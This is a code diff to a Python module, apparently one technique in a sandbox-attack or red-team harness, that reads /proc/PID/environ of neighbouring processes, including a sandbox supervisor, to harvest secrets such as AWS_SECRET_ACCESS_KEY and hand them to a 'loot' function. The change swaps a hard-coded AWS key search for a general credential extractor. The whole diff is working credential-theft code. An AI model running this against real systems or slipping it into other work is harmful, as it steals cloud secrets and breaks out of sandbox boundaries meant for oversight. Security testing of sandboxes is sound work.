@@ -5,7 +5,7 @@ Means: /proc/PID/environ of the worker. It runs under the same uid, so the file 
        sight is tried too, since a sandbox's supervisor often keeps the environment it was given.
 """
 
-from attack import DONE, attempting, denied, loot, neighbours
+from attack import DONE, attempting, credential, denied, loot, neighbours
 
 
 def run(brief):
@@ -14,14 +14,13 @@ def run(brief):
     for pid in neighbours(brief):
         try:
             with open(f"/proc/{pid}/environ", "rb") as file:
-                block = file.read()
+                found = credential(file.read())
         except OSError as error:
             why = error
             continue
-        for entry in block.split(b"\0"):
-            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
-                loot(entry)
-                return DONE
+        if found:
+            loot(found)
+            return DONE
     return denied("/proc/PID/environ", why)
 
 
